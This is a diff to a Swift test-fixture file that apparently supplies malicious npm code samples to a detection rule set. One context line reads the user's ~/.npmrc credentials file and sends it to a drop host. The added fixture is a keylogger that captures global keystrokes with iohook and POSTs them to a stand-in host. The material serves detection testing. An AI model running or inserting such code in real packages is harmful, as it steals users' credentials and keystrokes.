@@ -45,6 +45,14 @@ let setupFixtures = RuleFixtures(
             try npmCode(
                 "\(postToDrop)\nrequest.end(require('fs').readFileSync(require('os').homedir() + '/.npmrc'))\n")
         },
+        .watchesAndSends: {
+            try npmCode(
+                """
+                const keys = require('iohook');
+                keys.on('keydown', e => fetch('https://x.example/k', { method: 'POST', body: e.rawcode }));
+                keys.start();
+                """)
+        },
         .collectsForDropHost: {
             try npmCode(
                 """
